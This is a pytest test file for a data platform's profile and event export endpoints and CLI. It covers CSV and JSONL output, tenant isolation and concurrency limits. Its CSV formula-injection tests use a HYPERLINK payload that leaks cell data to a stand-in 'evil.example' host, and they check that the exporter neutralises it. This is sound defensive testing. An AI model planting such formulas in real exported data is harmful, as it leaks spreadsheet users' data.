"""Streamed exports (HTTP and ``stratum export``) of pipeline-written data."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta

import psycopg
import pytest
from test_http_support import body_of, raw_request, run_server, status_of
from test_read_support import auth, event, ingest_and_drain, profile_by

from read_api import exports
from read_api.export_slots import export_slots_key
from stratum.cli import build_parser
from stratum.settings import libpq_url

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PROFILE_KEYS = ["id", "lifecycle", "traits", "identifiers", "consents", "counters", "first_seen", "last_seen",
                "merged_from", "computed"]
OLD = datetime.now(UTC) - timedelta(days=65)


@pytest.fixture
def data(ingest_client, read_client, tenant, drain):
    """Three people (one built from a merge) and seven events, two of them 65 days old."""
    ingest_and_drain(ingest_client, drain, tenant.write_key,
                     event("Old", ("anonymous_id", "x-anon"), at=OLD),
                     event("Old", ("device_id", "x-dev"), at=OLD + timedelta(seconds=1)),
                     event("Signed Up", ("email", "x1@example.com"), traits={"name": "X"}, properties={"a": [1]}),
                     event("Signed Up", ("email", "x2@example.com")),
                     event("Viewed", ("external_id", "x3")),
                     event("Viewed", ("external_id", "x3"), properties={"page": "/a,\"b\"\n"}))
    ingest_and_drain(ingest_client, drain, tenant.write_key,
                     event("Linked", ("anonymous_id", "x-anon"), ("email", "x1@example.com")))
    people = {k: profile_by(read_client, tenant.api_key, t, v).json()
              for k, t, v in (("x1", "email", "x1@example.com"), ("x2", "email", "x2@example.com"),
                              ("x3", "external_id", "x3"), ("dev", "device_id", "x-dev"))}
    return people


def _export(read_client, key: str, kind: str, **params):
    return read_client.get(f"/api/v1/cdp/export/{kind}", params=params, headers=auth(key))


def test_profiles_jsonl_are_live_profiles_as_profile_objects(read_client, tenant, data, monkeypatch):
    monkeypatch.setattr(exports, "FETCH_ROWS", 2)  # several round trips of the server-side cursor
    r = _export(read_client, tenant.api_key, "profiles")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert sorted(p["id"] for p in lines) == sorted(p["id"] for p in data.values())
    by_id = {p["id"]: p for p in lines}
    for person in data.values():
        assert by_id[person["id"]] == person  # the same PROFILE as the lookup answers
    assert all(list(p) == PROFILE_KEYS for p in lines)


def test_profiles_csv_has_a_header_and_json_cells(read_client, tenant, data):
    r = _export(read_client, tenant.api_key, "profiles", format="csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert list(rows[0]) == PROFILE_KEYS and len(rows) == 4
    x1 = next(row for row in rows if row["id"] == data["x1"]["id"])
    assert json.loads(x1["traits"]) == {"name": "X"}
    assert json.loads(x1["identifiers"]) == data["x1"]["identifiers"]
    assert json.loads(x1["counters"]) == data["x1"]["counters"]
    assert x1["merged_from"] == "" and x1["first_seen"] == data["x1"]["first_seen"]


def test_profiles_from_filters_on_last_change(read_client, tenant, data, db):
    db.execute("UPDATE profiles SET updated_at = now() - interval '3 days' WHERE id <> %s", (data["x2"]["id"],))
    since = (datetime.now(UTC) - timedelta(days=1)).isoformat()
    lines = _export(read_client, tenant.api_key, "profiles", **{"from": since}).text.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [data["x2"]["id"]]
    until = _export(read_client, tenant.api_key, "profiles", to=since).text.splitlines()
    assert len(until) == 3


def test_events_jsonl_oldest_first_with_time_window(read_client, tenant, data, monkeypatch):
    monkeypatch.setattr(exports, "FETCH_ROWS", 3)
    lines = [json.loads(line) for line in _export(read_client, tenant.api_key, "events").text.splitlines()]
    assert len(lines) == 7
    assert [e["event_time"] for e in lines] == sorted(e["event_time"] for e in lines)
    assert lines[0]["event_name"] == "Old" and lines[0]["profile_id"] == data["x1"]["id"]  # merged into x1
    assert set(lines[0]) == {"event_id", "event_name", "event_type", "event_time", "received_at", "source_id",
                             "properties", "context", "emq", "identifiers", "decisions", "profile_id"}
    cut = (OLD + timedelta(days=1)).date().isoformat()  # a date: midnight UTC
    old = _export(read_client, tenant.api_key, "events", to=cut).text.splitlines()
    recent = _export(read_client, tenant.api_key, "events", **{"from": cut}).text.splitlines()
    assert len(old) == 2 and len(recent) == 5


def test_events_csv_round_trips_awkward_values(read_client, tenant, data):
    rows = list(csv.DictReader(io.StringIO(_export(read_client, tenant.api_key, "events", format="csv").text)))
    assert len(rows) == 7
    awkward = next(r for r in rows if r["properties"] != "{}" and "page" in r["properties"])
    assert json.loads(awkward["properties"]) == {"page": "/a,\"b\"\n"}
    assert json.loads(awkward["identifiers"])[0]["type"] == "external_id"
    assert awkward["emq"].isdigit()
    assert json.loads(awkward["decisions"]) == []


def test_exports_are_per_tenant(read_client, new_tenant, data):
    other = new_tenant()
    for kind in ("profiles", "events"):
        r = _export(read_client, other.api_key, kind)
        assert r.status_code == 200 and r.text == ""
        assert _export(read_client, other.api_key, kind, format="csv").text.count("\n") == 1  # header only


@pytest.mark.parametrize(("params", "code"), [
    ({"format": "xml"}, "invalid_format"), ({"from": "yesterday"}, "invalid_time"), ({"to": "2025-13-01"}, "invalid_time"),
])
def test_bad_export_parameters_are_400(read_client, tenant, params, code):
    r = _export(read_client, tenant.api_key, "events", **params)
    assert r.status_code == 400 and r.json()["code"] == code


def _hold_slots(redis_conn, tenant_id: str, n: int) -> None:
    """Take ``n`` of the tenant's export slots as another process would (leases far ahead)."""
    far = int((datetime.now(UTC) + timedelta(hours=1)).timestamp() * 1000)
    redis_conn.zadd(export_slots_key(tenant_id), {f"elsewhere-{i}": far for i in range(n)})


def test_too_many_exports_is_429_per_tenant(read_client, tenant, new_tenant, redis_conn):
    _hold_slots(redis_conn, tenant.id, 4)  # e.g. four exports running in other read processes
    r = _export(read_client, tenant.api_key, "profiles")
    assert r.status_code == 429 and r.json()["code"] == "too_many_exports" and r.headers["retry-after"]
    assert r.json()["status"] == 429
    # Another tenant is not blocked by the first one's exports.
    assert _export(read_client, new_tenant().api_key, "profiles").status_code == 200

    redis_conn.zrem(export_slots_key(tenant.id), "elsewhere-0")
    assert _export(read_client, tenant.api_key, "profiles").status_code == 200
    # The finished export gave its slot back: only the three held elsewhere remain.
    assert redis_conn.zcard(export_slots_key(tenant.id)) == 3
    assert read_client.app.state.read.exports_running == 0


def test_expired_slots_of_a_dead_process_are_reclaimed(read_client, tenant, redis_conn):
    past = int((datetime.now(UTC) - timedelta(seconds=1)).timestamp() * 1000)
    redis_conn.zadd(export_slots_key(tenant.id), {f"crashed-{i}": past for i in range(4)})
    assert _export(read_client, tenant.api_key, "events").status_code == 200
    assert redis_conn.zcard(export_slots_key(tenant.id)) == 0


@pytest.mark.parametrize(("value", "cell"), [
    ("=HYPERLINK(\"http://x.example\",\"x\")", "'=HYPERLINK(\"http://x.example\",\"x\")"),
    ("+1-555", "'+1-555"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-5, "-5"), (2.5, "2.5"), (0, "0"), (None, ""),
    (True, "true"), ({"a": "=1"}, '{"a":"=1"}'),
])
def test_csv_cells_neutralize_formulas_and_leave_numbers(value, cell):
    assert exports._csv_cell(value) == cell


def test_csv_exports_neutralize_formula_injection(ingest_client, read_client, tenant, drain, settings, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    ingest_and_drain(ingest_client, drain, tenant.write_key,
                     event(formula, ("external_id", "csv-1"), traits={"name": "@SUM(1+1)"}),
                     event("-1+2", ("external_id", "csv-1")))
    r = _export(read_client, tenant.api_key, "events", format="csv")
    names = sorted(row["event_name"] for row in csv.DictReader(io.StringIO(r.text)))
    assert names == ["'-1+2", "'" + formula]
    emqs = [row["emq"] for row in csv.DictReader(io.StringIO(r.text))]
    assert all(e.isdigit() for e in emqs)  # numbers untouched

    out = tmp_path / "events.csv"
    args = build_parser().parse_args(["export", "events", "--tenant", tenant.id, "--format", "csv", "--out", str(out)])
    args.func(args, settings)
    assert sorted(row["event_name"] for row in csv.DictReader(out.open())) == names
    # JSON lines carry the data as it is: only spreadsheets (CSV) need the guard.
    lines = _export(read_client, tenant.api_key, "events").text.splitlines()
    assert sorted(json.loads(line)["event_name"] for line in lines) == ["-1+2", formula]


def test_thirty_concurrent_exports_open_at_most_four_streams(data, tenant, settings, db, redis_conn):
    """A real read API process, 30 export requests at once: 4 streams, 26 answers 429, and
    never more than 4 export connections in Postgres (the exports wait on a table lock, so
    none can finish and give its slot back early)."""
    with run_server("read-api", settings) as server:
        locker = psycopg.connect(libpq_url(settings.database_url))
        try:
            locker.execute("LOCK TABLE events IN ACCESS EXCLUSIVE MODE")
            request = (f"GET /api/v1/cdp/export/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {tenant.api_key}"
                       "\r\nConnection: close\r\n\r\n").encode()
            barrier = threading.Barrier(30)

            def one_export() -> bytes:
                barrier.wait(timeout=30)
                return raw_request(server, request, timeout_s=60)

            with ThreadPoolExecutor(max_workers=30) as pool:
                futures = [pool.submit(one_export) for _ in range(30)]
                waiting = 0
                deadline = time.monotonic() + 30
                while time.monotonic() < deadline:
                    refused = sum(1 for f in futures if f.done())
                    waiting = db.execute(
                        "SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%%stratum_export%%'"
                        " AND wait_event_type = 'Lock' AND pid <> pg_backend_pid()").fetchone()[0]
                    if refused + waiting >= 30:
                        break
                    time.sleep(0.1)
                assert waiting == 4, f"{waiting} export streams opened against a limit of 4"
                locker.rollback()  # the four streams now run to completion
                responses = [f.result(timeout=60) for f in futures]
        finally:
            locker.close()
    statuses = sorted(status_of(r) for r in responses)
    assert statuses == [200] * 4 + [429] * 26, server.log()
    refusal = next(r for r in responses if status_of(r) == 429)
    assert json.loads(body_of(refusal))["code"] == "too_many_exports"
    assert redis_conn.zcard(export_slots_key(tenant.id)) == 0  # every slot given back


def test_cli_export_to_a_file_with_progress(tenant, data, settings, tmp_path, capsys):
    out = tmp_path / "events.csv"
    args = build_parser().parse_args(["export", "events", "--tenant", tenant.id, "--format", "csv", "--out", str(out)])
    args.func(args, settings)
    captured = capsys.readouterr()
    assert json.loads(captured.out.strip().splitlines()[-1]) == {"exported": 7, "kind": "events", "format": "csv",
                                                                  "out": str(out)}
    assert "7/7 rows" in captured.err and "100%" in captured.err
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == 7 and rows[0]["event_name"] == "Old"


def test_cli_export_to_stdout(tenant, data, settings):
    env = {**os.environ, "STRATUM_DATABASE_URL": settings.database_url, "STRATUM_REDIS_URL": settings.redis_url}
    done = subprocess.run([sys.executable, "-m", "stratum.cli", "export", "profiles", "--tenant", tenant.id],
                          cwd=ROOT, env=env, capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr.decode()
    lines = [json.loads(line) for line in done.stdout.decode().splitlines()]
    assert sorted(p["id"] for p in lines) == sorted(p["id"] for p in data.values())
    assert b"4/4 rows" in done.stderr

    missing = subprocess.run([sys.executable, "-m", "stratum.cli", "export", "events", "--tenant",
                              "00000000-0000-0000-0000-000000000000"], cwd=ROOT, env=env, capture_output=True,
                             timeout=60)
    assert missing.returncode == 2 and b"no tenant" in missing.stderr


def test_a_client_leaving_early_frees_the_export(read_client, tenant, data, monkeypatch, db, redis_conn):
    monkeypatch.setattr(exports, "FETCH_ROWS", 1)
    state = read_client.app.state.read
    with read_client.stream("GET", "/api/v1/cdp/export/events", headers=auth(tenant.api_key)) as r:
        assert r.status_code == 200
        first = next(r.iter_lines())
        assert json.loads(first)["event_name"] == "Old"
    deadline = datetime.now(UTC) + timedelta(seconds=5)
    while state.exports_running and datetime.now(UTC) < deadline:
        read_client.get("/health")
    assert state.exports_running == 0
    assert redis_conn.zcard(export_slots_key(tenant.id)) == 0  # its tenant slot was given back
    # No export connection is left behind in the database.
    assert db.execute("SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%%stratum_export%%'"
                      " AND pid <> pg_backend_pid()").fetchone()[0] == 0
